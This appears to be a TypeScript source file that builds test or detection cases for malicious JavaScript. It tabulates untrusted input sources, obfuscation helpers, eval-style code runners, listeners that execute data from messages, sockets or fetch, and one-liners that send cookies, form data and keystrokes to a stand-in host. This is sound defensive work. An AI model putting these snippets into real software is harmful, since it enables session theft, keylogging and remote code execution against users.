// biome-ignore-all lint/suspicious/noTemplateCurlyInString: JavaScript writes values so.

/** Ways of JavaScript that malware is made of, as tables: `X` stands for a value, `V` for where it is used. */

/** Where something comes from that no review of the code can see. */
export const scriptSources: readonly string[] = [
  'location.hash',
  'location.search.slice(1)',
  'document.cookie',
  'document.referrer',
  'window.name',
  'localStorage.a',
  "localStorage.getItem('a')",
  "sessionStorage['a']",
  "new URLSearchParams(location.search).get('a')",
  'decodeURIComponent(location.hash)',
  'JSON.parse(localStorage.a).b',
  'xhr.responseText',
  "(await fetch('/a')).text()",
  "await (await fetch('/a')).text()",
  'el.dataset.a',
  'el.textContent',
  "getComputedStyle(el).getPropertyValue('--a')",
  "require('fs').readFileSync('a.png').toString()",
  'process.argv[2]',
  "atob('YWxlcnQoMSk=')",
  "unescape('%61%6c')",
  'String.fromCharCode(...codes)',
  'String.fromCharCode.apply(null, codes)',
  "Buffer.from('616c', 'hex').toString()",
  "require('zlib').inflateSync(data).toString()",
];

export const scriptWays: readonly (readonly [name: string, code: string, value: string])[] = [
  ['as it is', 'USE', 'X'],
  ['a variable', 'const v = X; USE', 'v'],
  ['two variables', 'let w = X, v; v = w; USE', 'v'],
  ['a text that is joined', "let v = ''; v += X; USE", 'v'],
  ['a template', 'const w = X; const v = `${w}`; USE', 'v'],
  ['a list', 'const v = [X].join(""); USE', 'v'],
  ['what is cut off', 'const v = X; USE', 'v.slice(1)'],
  ['a function', 'function f() { return X; } const v = f(); USE', 'v'],
  ['an arrow function', 'const f = () => X; const v = f(); USE', 'v'],
];

/** What runs a text. */
export const runners: readonly string[] = [
  'eval(V);',
  '(0, eval)(V);',
  'window.eval(V);',
  "window['eval'](V);",
  'new Function(V)();',
  "Function('a', V)();",
  'Reflect.apply(eval, null, [V]);',
  "[]['constructor']['constructor'](V)();",
  '(() => {}).constructor(V)();',
  'const { eval: e } = window; e(V);',
  'const e = eval; e(V);',
  "import('data:text/javascript,' + V);",
  "const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob([V]));",
  'new Worker(URL.createObjectURL(new Blob([V])));',
  "new (require('vm').Script)(V).runInThisContext();",
  "const vm = require('vm'); const S = vm.Script; new S(V).runInThisContext();",
];

/** What also takes functions: a decoded text of which nothing is known may be one of the same name. */
export const timers: readonly string[] = ['setTimeout(V, 1);', 'setInterval(V, 1);'];

/** What calls back with what somebody else sends. */
export const listeners: readonly string[] = [
  "window.addEventListener('message', (m) => eval(m.data));",
  "window.addEventListener('message', function (m) { new Function(m.data)(); });",
  'socket.onmessage = (m) => eval(m.data);',
  'socket.onmessage = function (m) { eval(m.data); };',
  "fetch('/a').then((r) => r.text()).then((t) => eval(t));",
  "fetch('/a').then((r) => r.text()).then((t) => new Function(t)());",
  "require('https').get('https://example.org/', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => eval(b)); });",
  "$.get('/a', function (d) { $.globalEval(d); });",
];

/** What carries something away. */
export const carriers: readonly string[] = [
  "fetch('https://example.org/?c=' + encodeURIComponent(document.cookie));",
  "new Image().src = '//example.org/?' + document.cookie;",
  "navigator.sendBeacon('https://example.org/', new FormData(form));",
  "fetch('//example.org/' + btoa(field.value));",
  "document.addEventListener('keydown', (e) => { fetch('https://example.org/?' + e.key); });",
];
